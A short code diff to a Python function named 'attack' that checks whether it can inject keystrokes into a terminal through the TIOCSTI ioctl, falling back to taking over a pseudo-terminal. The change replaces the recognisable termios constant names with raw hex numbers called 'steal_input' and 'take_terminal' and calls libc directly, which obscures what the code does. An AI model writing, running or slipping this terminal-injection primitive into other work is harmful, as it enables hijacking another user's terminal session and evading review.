@@ -3,18 +3,14 @@
 
 
 def attack(target):
-    import fcntl, os, struct, termios
-    def type_into(terminal):
-        try:
-            fcntl.ioctl(terminal, termios.TIOCSTI, b'x')
-            return True
-        except OSError:
-            return False
-    if type_into(0):
+    import ctypes, os
+    libc = ctypes.CDLL(None)
+    steal_input, take_terminal = 0x5412, 0x540e
+    if libc.ioctl(0, steal_input, b'x') == 0:
         return True
     ours, theirs = os.openpty()
     if os.fork() == 0:
         os.setsid()
-        fcntl.ioctl(theirs, termios.TIOCSCTTY, 0)
-        os._exit(0 if type_into(theirs) else 1)
+        libc.ioctl(theirs, take_terminal, 0)
+        os._exit(0 if libc.ioctl(theirs, steal_input, b'x') == 0 else 1)
     return os.wait()[1] == 0
